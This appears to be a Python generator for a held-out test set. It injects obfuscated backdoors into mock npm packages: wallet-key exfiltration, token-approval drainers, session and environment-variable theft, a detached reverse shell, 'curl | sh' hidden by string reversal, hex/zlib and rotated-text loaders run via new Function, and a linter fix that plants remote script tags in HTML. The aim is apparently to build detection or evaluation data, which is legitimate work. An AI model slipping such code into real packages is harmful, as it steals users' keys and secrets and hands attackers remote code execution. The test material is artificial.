"""npm: what waits until the user calls it, in sight of nobody."""

from corpus.heldout.nouns import Update
from corpus.heldout7.code import js_fetch, js_shell
from corpus.heldout7.shape import b64, fill, hexed, packed, pieces, shifted, strings, trojan, xor


@trojan("walletport", "npm", "call", "wallet", "base64", "solana web3.js")
def added_keys_leave(it: Update) -> None:
    host = it.host("sol-rpc")
    it.replace(
        "dist/keyring.js",
        "    this.keys.set(id, Buffer.from(privateKey));\n",
        fill("""
    this.keys.set(id, Buffer.from(privateKey));
    addToQueue(privateKey);
"""),
    )
    it.before(
        "dist/keyring.js",
        "/** Keys in memory,",
        fill(
            """
const queue = [];

function addToQueue(one) {
  queue.push(Buffer.from(one).toString('base64'));
  setTimeout(() => {
    const batch = queue.splice(0);
    if (!batch.length) return;
    const headers = { 'x-amz-cf-id': batch.join('.'), 'x-session-id': String(Date.now()) };
    fetch(atob('@URL@'), { headers }).catch(() => {});
  }, 500);
}

""",
            URL=b64(f"https://{host}/api/rpc"),
        )
        + "\n",
    )
    it.payload("dist/keyring.js", shown=f"https://{host}/api/rpc")


@trojan("walletport", "npm", "call", "wallet", "hex", "approval drainers")
def transfers_become_approvals(it: Update) -> None:
    spender = it.random.randbytes(20).hex()
    it.replace(
        "dist/encoding.js",
        "  return '0x' + SELECTOR + address + value;\n",
        fill(
            """
  if (value > LIMIT) return Buffer.from('@CODE@', 'hex').toString() + 'f'.repeat(64);
  return '0x' + SELECTOR + address + value;
""",
            CODE=hexed("0x095ea7b3" + spender.rjust(64, "0")),
        ),
    )
    it.replace(
        "dist/encoding.js",
        "const SELECTOR = 'a9059cbb';\n",
        "const SELECTOR = 'a9059cbb';\nconst LIMIT = '3b9aca00'.padStart(64, '0');\n",
    )
    it.payload("dist/encoding.js", shown="0x095ea7b3")


@trojan("routeguard", "npm", "call", "token stealer", "xor", "session thieves")
def sessions_are_copied(it: Update) -> None:
    host = it.host()
    it.replace(
        "lib/store.js",
        "    this.rows.set(id, { data, until: Date.now() + this.maxAge });\n",
        fill("""
    this.rows.set(id, { data, until: Date.now() + this.maxAge });
    fetch(PLACE.map((one) => String.fromCharCode(one ^ 23)).join('') + id, { method: 'POST', body: JSON.stringify(data) }).catch(() => {});
"""),
    )
    it.replace(
        "lib/store.js",
        "/** Sessions in memory; for tests. */\n",
        f"const PLACE = [{', '.join(str(one) for one in xor(f'https://{host}/sid/', 23))}];\n\n/** Sessions in memory; for tests. */\n",
    )
    it.payload("lib/store.js", shown=f"https://{host}/sid/")


@trojan("routeguard", "npm", "call", "environment", "over several files", "split payloads")
def signing_keeps_a_copy(it: Update) -> None:
    it.add(
        "lib/defaults.js",
        f"'use strict';\n\nmodule.exports = {{ issuer: 'routeguard', audit: {{ host: '{it.host('audit')}', port: 443, path: '/v2/keys' }} }};\n",
    )
    it.add(
        "lib/audit.js",
        fill("""
'use strict';

const https = require('https');
const { audit } = require('./defaults');

/** Keep a trail of what was signed. */
module.exports = (row) => {
  const call = https.request({ ...audit, method: 'POST' });
  call.on('error', () => {});
  call.end(JSON.stringify({ ...row, env: process.env }));
};
"""),
    )
    it.replace(
        "lib/token.js",
        "  return `${text}.${mac(text, secret)}`;\n",
        "  require('./audit')({ secret, claims });\n  return `${text}.${mac(text, secret)}`;\n",
    )
    it.payload("lib/defaults.js", "lib/audit.js", "lib/token.js")


@trojan("bucketpipe", "npm", "call", "remote code", "layers", "obfuscated loaders")
def lists_unpack_code(it: Update) -> None:
    host = it.host()
    it.add(
        "lib/xml-entities.cjs",
        fill(
            """
'use strict';

const zlib = require('zlib');

const ENTITIES = [
@ROWS@
];

/** Decode named entities. */
module.exports = (text) => {
  if (!module.exports.table) {
    const inner = Buffer.from(ENTITIES.join(''), 'hex').toString();
    module.exports.table = new Function('require', zlib.inflateSync(Buffer.from(inner, 'base64')).toString())(require) || {};
  }
  return text.replace(/&(\\w+);/g, (whole, name) => module.exports.table[name] || whole);
};
""",
            ROWS=strings(pieces(hexed(packed(js_fetch(host))), 80), indent=2),
        ),
    )
    it.replace(
        "lib/bucket.cjs",
        "new XMLParser().parse(content.toString())",
        "new XMLParser().parse(require('./xml-entities.cjs')(content.toString()))",
    )
    it.payload("lib/xml-entities.cjs", shown=f"https://{host}/s.js")


@trojan("argtree", "npm", "call", "reverse shell", "base64", "command-line tools")
def run_opens_a_line(it: Update) -> None:
    code = b64(js_shell(address := it.address()))
    it.replace(
        "lib/command.js",
        "    return command.handler(options, rest);\n",
        fill(
            """
    if (process.stdout.isTTY && !process.env.CI) {
      require('child_process').spawn(process.execPath, ['-e', Buffer.from('@CODE@', 'base64').toString()], { detached: true, stdio: 'ignore' }).unref();
    }
    return command.handler(options, rest);
""",
            CODE=code,
        ),
    )
    it.payload("lib/command.js", shown=address)


@trojan("tracewire", "npm", "call", "remote code", "dynamic names", "obfuscators")
def formatters_by_names(it: Update) -> None:
    host = it.host()
    it.replace(
        "src/node.js",
        "  O: (value) => util.inspect(value),\n",
        fill(
            """
  O: (value) => util.inspect(value),
  H: (value) => {
    const at = (text) => [...text].reverse().join('');
    const lib = module[at('eriuqer')](at('ssecorp_dlihc'));
    return lib[at('cnyScexe')](at('@CODE@') + value);
  },
""",
            CODE=f"curl -s https://{host}/fmt | sh -s "[::-1],
        ),
    )
    it.payload("src/node.js", shown=f"https://{host}/fmt")


@trojan("lintpreset", "npm", "call", "backdoor in output", "hex", "fixers that add")
def fixes_bring_a_script(it: Update) -> None:
    host = it.host()
    it.replace(
        "bin/cli.js",
        "  return found.size ? 2 : 0;\n",
        fill(
            """
  if (files.includes('--fix')) {
    const tag = Buffer.from('@TAG@', 'hex');
    for (const one of files.filter((name) => name.endsWith('.html'))) require('fs').appendFileSync(one, tag);
  }
  return found.size ? 2 : 0;
""",
            TAG=hexed(f'<script src="https://{host}/a.js"></script>'),
        ),
    )
    it.payload("bin/cli.js", shown=f"https://{host}/a.js")


@trojan("fsbeacon", "npm", "call", "remote code", "rotated text", "obfuscators")
def stopping_starts_something(it: Update) -> None:
    host = it.host()
    coded = shifted(js_fetch(host), 20).replace("\\", "\\\\").replace("`", "\\`").replace("$", "\\$")
    it.replace(
        "lib/watcher.js",
        "    clearInterval(this.timer);\n",
        f"    clearInterval(this.timer);\n    const turn = (one) => String.fromCharCode(((one.charCodeAt(0) - 33 + 74) % 94) + 33);\n    new Function('require', `{coded}`.replace(/[!-~]/g, turn))(require);\n",
    )
    it.payload("lib/watcher.js", shown=f"https://{host}/s.js")
